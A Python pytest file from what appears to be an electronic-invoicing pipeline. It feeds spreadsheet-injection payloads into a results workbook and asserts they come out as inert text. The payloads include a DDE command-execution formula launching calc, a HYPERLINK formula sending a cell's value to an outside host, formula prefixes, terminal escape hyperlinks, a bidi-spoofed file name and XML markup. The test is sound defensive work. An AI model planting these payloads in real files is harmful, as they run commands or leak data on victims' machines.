"""Entry 110: whatever eDoc says, and whatever the input held, is only ever text in the results workbook."""

from __future__ import annotations

import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from pipeline.domain.lifecycle import Event, State
from pipeline.domain.records import BatchInfo, EventLine, Position, ResultLine, Source
from pipeline.report.publish import publish
from pipeline.report.summary import summarise
from tests.corpus.entry import A

NOON = datetime(2026, 11, 20, 15, 0, tzinfo=UTC)
MESSAGES = {
    "hyperlink": '=HYPERLINK("http://x.example/?"&A1;"clic")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "at": "@SUM(A1:A9)",
    "surrogate": "mitad \ud800 de un carácter",
    "nul": "antes\x00después",
    "long": "x" * 40_000,
    "ansi": "\x1b[31mrojo\x1b[0m\x1b]8;;http://x.example\x07clic",
    "bidi": "\u202egnp.exe",
    "escape": "_x0041__x000D_",
    "markup": "]]><f>1+1</f><!--",
    "none": "\ufffe\uffff",
}


@pytest.mark.one_in(3)
@pytest.mark.parametrize("message", MESSAGES.values(), ids=MESSAGES)
def test_110_srv_msg_is_inert(message: str, tmp_path: Path) -> None:
    line = ResultLine(
        pos=1,
        position=Position("Hoja1", 2),
        cells=(A, message),
        state=State.NEEDS_SUPPORT,
        cufe=A,
        sent_cufe=A,
        reason="Error en el monto facturado",
        attempts=1,
        estado=4,
        source=Source.CANCELLATION,
        message=message,
        http=200,
        sent_at=NOON,
    )
    event = EventLine(
        1, NOON, 1, line.position, State.SENDING, line.state, Event.UNCLEAR, cufe=A, http=200, message=message
    )
    info = BatchInfo("20261120-aaaa", "lote.xlsx", "0" * 64, "sandbox", "Hoja1", 1, ("CUFE", message), NOON)
    path = publish(summarise(info, [line], [event]), tmp_path, "lote")
    with zipfile.ZipFile(path) as container:
        names = container.namelist()
        assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
        assert not [name for name in names if name.endswith(".rels") and b"TargetMode" in container.read(name)]
        assert not [name for name in names if name.startswith("xl/worksheets/sheet") and b"<f>" in container.read(name)]
    book = openpyxl.load_workbook(path)
    values = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in values if cell.data_type == "f" or cell.hyperlink]
    results = book["Resultados"]
    heads = {cell.value: cell.column for row in results.iter_rows() for cell in row if cell.value == "Mensaje de eDoc"}
    said = [cell.value for row in results.iter_rows() for cell in row if cell.column == heads["Mensaje de eDoc"]][-1]
    assert isinstance(said, str)
    assert said
    assert len(said) <= 32_767
    assert not [char for char in said if char < " " or char in "\x7f\u202e\ufffe\uffff" or "\ud800" <= char <= "\udfff"]
